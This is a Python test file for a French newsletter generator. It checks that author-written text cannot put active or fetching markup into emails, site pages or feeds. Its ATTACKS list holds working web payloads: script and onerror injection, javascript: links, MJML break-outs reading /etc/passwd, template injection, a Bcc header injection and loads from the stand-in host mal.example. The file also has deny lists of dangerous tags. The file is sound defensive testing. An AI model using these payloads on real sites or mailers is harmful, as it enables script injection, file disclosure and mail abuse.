"""Nothing that an author writes can run, break the letter, or reach a reader's machine: four voices, one table of attacks."""

import json
import re
from dataclasses import replace

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from reference_data import DATA
from small_letter import article, community, issue, only

from chorale.content import addresses
from chorale.content.item_model import Link
from chorale.content.model import EditoSection, Image, TextSection
from chorale.newsletter import letter_feeds, web_pages
from chorale.newsletter.email import compose, engines
from chorale.text import markdown, sanitise
from chorale.text.html_tree import Element, parse

ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://mal.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://mal.example/pixel.png)",
    '![x" onerror="alert(1)](a.png)',
    "<iframe src=https://mal.example></iframe>",
    "<style>body{display:none}</style>",
    "<style>@import url(https://mal.example/a.css)</style>",
    '<div style="background:url(https://mal.example/a)">x</div>',
    '<td style="text-align:left;background:url(//mal.example)">x</td>',
    "<base href=https://mal.example/>",
    "<meta http-equiv=refresh content=0;url=https://mal.example>",
    "<link rel=stylesheet href=https://mal.example/a.css>",
    "<form action=https://mal.example><input name=a></form>",
    "<object data=https://mal.example></object>",
    "</mj-text><mj-raw><script>alert(1)</script></mj-raw><mj-text>",
    '</mj-text><mj-include path="/etc/passwd" type="html" /><mj-text>',
    "</mj-text></mj-column></mj-section></mj-body></mjml>",
    "<mj-image src=https://mal.example/a.png />",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} {{ config }}",
    "%%unsubscribe_url%% %%secret%%",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "]]><script>alert(1)</script><![CDATA[",
    "\x00\x01\x08\x0b\x0c\x1f<script>alert(1)</script>",
    "<http://a\x02b.example>",
    "\u202etxet desrever\u202c",
    "<title>x</title><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a{: onclick=alert(1) }",
    "# Titre {: onclick=alert(1) style=color:red }",
    "[x](https://bon.example){: onclick=alert(1) }",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "```\n</pre><script>alert(1)</script>\n```",
    '!!! note "<script>alert(1)</script>"\n    x',
    '<details ontoggle=alert(1) open markdown="1">x</details>',
    "Ligne\r\nBcc: victime@mal.example",
)
ADDRESSES = (
    "href",
    "src",
    "action",
    "formaction",
    "background",
    "poster",
    "srcset",
    "data",
    "xlink:href",
)
ACTIVE = (
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "base",
    "svg",
    "math",
    "meta",
    "link",
    "textarea",
    "mj-raw",
    "mj-include",
    "mj-image",
)


def attacked(text):
    """Return a community that says the text everywhere an author can write."""
    line = " ".join(text.split()) or "x"
    one = article(
        text,
        title=line[:300],
        summary=line,
        image=Image(src="a.png", alt=line),
        link=Link(url=line, label=line),
    )
    sections = (EditoSection(edito=text), *issue(one).sections, TextSection(text=text))
    return community(issue(one, sections=sections, title=line, subject=line, preheader=line))


def dangers(root):
    """Return what could act or fetch in a tree."""
    for element in root.walk():
        for name, value in element.attributes.items():
            if name.startswith("on") or (
                name in ADDRESSES
                and re.match(r"\s*(javascript|data|vbscript|file):", value, re.IGNORECASE)
            ):
                yield (element.name, name, value)
            if name in ("src", "background") and not value.startswith(
                ("https://essai.example/", "a.png", "../")
            ):
                yield (element.name, name, value)
            if name == "style" and re.search(r"url\(|expression|@import", value):
                yield (element.name, name, value)
        if element.name in ACTIVE:
            yield (element.name, "", element.text[:60])


def body_of(html):
    return next(parse(html).named("body"), Element())


def harmless(text):
    made = attacked(text)
    sent = compose.compose(made, only(made))
    assert list(dangers(body_of(sent.html))) == []
    assert sent.html.count("</html>") == 1
    assert "Vous recevez ce message" in body_of(sent.html).text
    assert "mal.example/a.css" not in "".join(
        style.text for style in parse(sent.html).named("style")
    )
    for voice in (sent.html, sent.text, sent.subject):
        assert not sanitise.CONTROL.search(voice)
        assert set(re.findall(r"%%\w+%%", voice)) <= set(compose.TOKENS)
    return made, sent


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_gets_through_into_the_email(attack):
    harmless(attack)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_gets_through_into_the_pages_as_the_site_builder_reads_them(attack):
    made = attacked(attack)
    for file in web_pages.files(made):
        if file.path.endswith(".md"):
            body = file.content.decode().split("\n---\n", 1)[1]
            assert list(dangers(parse(markdown.markdown(body)))) == [], file.path


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_gets_through_into_the_feed(attack):
    made = attacked(attack)
    for entry in letter_feeds.feed(made, made.issues).entries:
        assert list(dangers(parse(entry.html))) == []


def test_template_marks_are_words_like_others():
    made, sent = harmless("{{ 7 * 7 }} {% raw %}")
    assert "{{ 7 * 7 }} {% raw %}" in sent.text
    campaign = json.loads(
        engines.listmonk(made, only(made), engines.EspTarget(lists=(1,), template=2)).content
    )
    parts = campaign["body"] + campaign["altbody"] + campaign["subject"]
    ours = r'{{ "{{" }}|{{ (UnsubscribeURL|ManageURL) }}|{{ Safe "(\\.|[^"\\])*" }}'
    assert "{{" not in re.sub(ours, "", parts)
    draft = json.loads(
        engines.brevo(
            made, replace(only(made), subject="Lettre"), engines.EspTarget(lists=(1,))
        ).content
    )
    assert (
        re.search(
            r"\{[{%#]", re.sub(r"{{ (unsubscribe|update_profile) }}", "", draft["htmlContent"])
        )
        is None
    )


def test_an_attribute_of_a_table_keeps_its_alignment_and_nothing_else():
    tree = parse(markdown.markdown("| a |\n|:-:|\n| b |"))
    assert [cell.attributes for cell in tree.named("td")] == [{"style": "text-align: center;"}]
    assert sanitise._attribute("td", "style", "text-align: center;") == "text-align:center"
    assert sanitise._attribute("td", "style", "text-align: center; color: red") is None


PIECES = st.sampled_from(
    ["<", ">", "&", '"', "'", "`", "*", "_", "[", "]", "(", ")", "!", "#", "-", "+", "1.", "|", "\n", "\n\n", "    ", " ", "\t", "\\",
     "a", "é", "\u00a0", "\u202f", "\x02", "\x03", "</mj-text>", "<mj-raw>", "<script>", "<!--", "-->", "<![CDATA[", "]]>", "{{", "}}",
     "%%x%%", "```", "~~~", "|---|", ":", "<p", "<td style=", "https://a.example", "javascript:", "&#", "&nbsp;", "\U0001f600", "\u0301", "::: ", "!!! note", "[^1]: "]
)  # fmt: skip


@settings(max_examples=120, deadline=None)
@example("# \x02\n\n| a |\n|---|\n|")
@example("[^1]: >[^1]: ")
@given(st.lists(PIECES, max_size=30).map("".join))
def test_whatever_markdown_is_written_the_letter_holds(text):
    harmless(text)


@settings(max_examples=150, deadline=None)
@example("[^1]: >[^1]: ")
@given(st.lists(PIECES, max_size=30).map("".join))
def test_whatever_markdown_is_written_its_page_holds(text):
    made = attacked(text)
    path = addresses.page(only(made).articles[0])
    [file] = (one for one in web_pages.files(made) if one.path == path)
    body = file.content.decode().split("\n---\n", 1)[1]
    root = parse(markdown.markdown(body))
    assert list(dangers(root)) == []
    assert [element.name for element in root.children if isinstance(element, Element)] == ["div"]


def markdown_cases():
    """Yield the texts of tests/data/markdown_cases.txt, each with its name."""
    text = (DATA / "markdown_cases.txt").read_text(encoding="utf-8")
    for case in text.split("\n◆ ")[1:]:
        name, _, written = case.partition("\n")
        yield pytest.param(written.replace("→", "\t").replace("␣", " "), id=name)


@pytest.mark.parametrize("text", list(markdown_cases()))
def test_every_construction_of_markdown_makes_a_harmless_letter(text):
    harmless(text)
